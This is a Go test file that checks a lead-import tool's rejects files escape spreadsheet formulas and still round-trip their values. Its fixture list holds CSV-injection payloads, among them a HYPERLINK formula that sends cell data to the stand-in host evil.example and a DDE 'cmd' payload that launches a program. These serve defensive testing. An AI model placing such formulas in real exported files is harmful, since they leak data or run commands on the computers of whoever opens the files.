package reader

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/bulkload/bulkload/lead"
)

// formulaCells are cells a spreadsheet would run, and cells that look like
// them but are data ('s-Hertogenbosch, a negative number).
var formulaCells = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`-2+3+cmd|' /C calc'!A0`,
	`+1+1`, `@SUM(A1:A9)`, "\t=1+1", "\r=1+1",
	`'s-Hertogenbosch`, `''`, `-5000`, `-0.5`, `-`, `plain`,
}

// TestRejectsNeutraliseFormulas is issue 18 item 9 for rejects files: no
// cell of a CSV rejects file (same delimiter, another delimiter, from
// JSONL) begins with a formula character unless it is a plain number, and
// the file fed back, once or twice, gives the original values.
func TestRejectsNeutraliseFormulas(t *testing.T) {
	for _, tc := range []struct {
		name, file, out string
	}{
		{"csv", "a.csv", "rejects.csv"},
		{"csv to tsv", "a.csv", "rejects.tsv"},
		{"tsv", "a.tsv", "rejects.tsv"},
		{"tsv to csv", "a.tsv", "rejects.csv"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := formulaInput(t, 0, tc.file)
			want := readValues(t, in, tc.file, Options{})
			rejects := writeRejectsTo(t, in, tc.file, tc.out)
			assertSafe(t, rejects, 0, tc.out)
			assertSameValues(t, readValues(t, rejects, tc.out, Options{}), want)
			again := writeRejectsTo(t, rejects, tc.out, tc.out)
			assertSafe(t, again, 0, tc.out)
			assertSameValues(t, readValues(t, again, tc.out, Options{}), want)
		})
	}
	t.Run("jsonl to csv", func(t *testing.T) {
		var b strings.Builder
		for _, c := range formulaCells {
			b.WriteString(`{"firstName":` + jsonQuote(c) + `,"city":` + jsonQuote(c) + "}\n")
		}
		in := []byte(b.String())
		want := readValues(t, in, "a.jsonl", Options{})
		rejects := writeRejectsTo(t, in, "a.jsonl", "rejects.csv")
		assertSafe(t, rejects, ',', "rejects.csv")
		assertSameValues(t, readValues(t, rejects, "rejects.csv", Options{}), want)
	})
	t.Run("csv rejects to jsonl", func(t *testing.T) {
		in := formulaInput(t, 0, "a.csv")
		want := readValues(t, in, "a.csv", Options{})
		rejects := writeRejectsTo(t, in, "a.csv", "rejects.csv")
		jsonl := writeRejectsTo(t, rejects, "rejects.csv", "rejects.jsonl")
		assertSameValues(t, readValues(t, jsonl, "rejects.jsonl", Options{}), want)
	})
}

// TestPartnerQuoteIsData: a leading quote in a partner's own export is
// data, not an escape; only a rejects file (first column "error") is
// unescaped.
func TestPartnerQuoteIsData(t *testing.T) {
	got := readValues(t, []byte("city,firstName\n's-Hertogenbosch,'Tis\n"), "a.csv", Options{})
	if got[0][lead.City] != "'s-Hertogenbosch" || got[0][lead.FirstName] != "'Tis" {
		t.Errorf("read partner export = %q, want the quotes kept", got[0])
	}
}

func formulaInput(t *testing.T, comma rune, file string) []byte {
	t.Helper()
	if comma == 0 {
		comma = ','
		if strings.HasSuffix(file, ".tsv") {
			comma = '\t'
		}
	}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Comma = comma
	_ = w.Write([]string{"firstName", "lastName", "city", "loanAmount"})
	for _, c := range formulaCells {
		if comma == '\t' && strings.ContainsRune(c, '\t') {
			c = strings.ReplaceAll(c, "\t", " ")
		}
		_ = w.Write([]string{c, "Lee" + c, c, c})
	}
	w.Flush()
	return b.Bytes()
}

func writeRejects(t *testing.T, in []byte, name string, opts Options, as Format, comma rune) []byte {
	t.Helper()
	r, err := NewReader(bytes.NewReader(in), name, opts)
	if err != nil {
		t.Fatalf("NewReader(%s): %v", name, err)
	}
	defer r.Close()
	var out bytes.Buffer
	x := NewRejects(&out, r, as, comma)
	for {
		rec, err := r.next()
		if err != nil {
			break
		}
		if err := x.Write(&rec, "=bad value"); err != nil {
			t.Fatal(err)
		}
	}
	if err := x.Flush(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// writeRejectsTo writes the rejects of in (read as name) in the format
// the rejects file's name out asks for, as the CLI does.
func writeRejectsTo(t *testing.T, in []byte, name, out string) []byte {
	t.Helper()
	f, comma, err := RejectsFormat(out)
	if err != nil {
		t.Fatal(err)
	}
	return writeRejects(t, in, name, Options{}, f, comma)
}

func readValues(t *testing.T, in []byte, name string, opts Options) []lead.Values {
	t.Helper()
	recs, _, err := readAll(t, in, name, opts)
	if err != nil {
		t.Fatalf("read %s: %v\n%s", name, err, in)
	}
	out := make([]lead.Values, len(recs))
	for i, r := range recs {
		out[i] = r.Values
	}
	return out
}

func assertSameValues(t *testing.T, got, want []lead.Values) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("read back %d rows, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("row %d read back as %q, want %q", i+1, got[i], want[i])
		}
	}
}

// assertSafe parses a CSV rejects file as a spreadsheet would and fails on
// a cell that begins with a formula character and is not a plain number.
func assertSafe(t *testing.T, file []byte, comma rune, name string) {
	t.Helper()
	if comma == 0 {
		comma = ','
		if strings.HasSuffix(name, ".tsv") {
			comma = '\t'
		}
	}
	cr := csv.NewReader(bytes.NewReader(file))
	cr.Comma, cr.FieldsPerRecord, cr.LazyQuotes = comma, -1, true
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("parse rejects: %v\n%s", err, file)
	}
	for i, rec := range recs {
		for _, c := range rec {
			if unsafeCell(c) {
				t.Errorf("rejects line %d has the cell %q, which a spreadsheet runs", i+1, c)
			}
		}
	}
}

func unsafeCell(c string) bool {
	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && lead.EscapeCell(c) != c
}

func jsonQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&0xf])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// FuzzRejectsRoundTrip: any cells in a CSV input come out of its rejects
// file safe to open, and read back, fed in once or twice, as the values
// the input gave.
func FuzzRejectsRoundTrip(f *testing.F) {
	for _, c := range formulaCells {
		f.Add(c, "-5", uint8(0))
	}
	f.Add("'", "'=", uint8(1))
	f.Fuzz(func(t *testing.T, a, b string, delim uint8) {
		if !utf8.ValidString(a) || !utf8.ValidString(b) {
			return
		}
		comma := [...]rune{',', ';', '\t'}[int(delim)%3]
		name := "a.csv"
		if comma == '\t' {
			name = "a.tsv"
		}
		var in bytes.Buffer
		w := csv.NewWriter(&in)
		w.Comma = comma
		_ = w.Write([]string{"firstName", "city", "zipCode"})
		_ = w.Write([]string{a, b, a + b})
		w.Flush()
		opts := Options{Delimiter: comma}
		r, err := NewReader(bytes.NewReader(in.Bytes()), name, opts)
		if err != nil {
			return
		}
		first, err := r.next()
		r.Close()
		if err != nil || first.Err != nil {
			return // a malformed row keeps its text, not its values
		}
		rejects := writeRejects(t, in.Bytes(), name, opts, FormatAuto, comma)
		assertSafe(t, rejects, comma, name)
		back := readValues(t, rejects, name, opts)
		if len(back) != 1 || back[0] != first.Values {
			t.Fatalf("rejects of %q read back as %q, want %q", in.Bytes(), back, first.Values)
		}
		again := writeRejects(t, rejects, name, opts, FormatAuto, comma)
		if back := readValues(t, again, name, opts); len(back) != 1 || back[0] != first.Values {
			t.Fatalf("rejects fed back twice read as %q, want %q", back, first.Values)
		}
	})
}
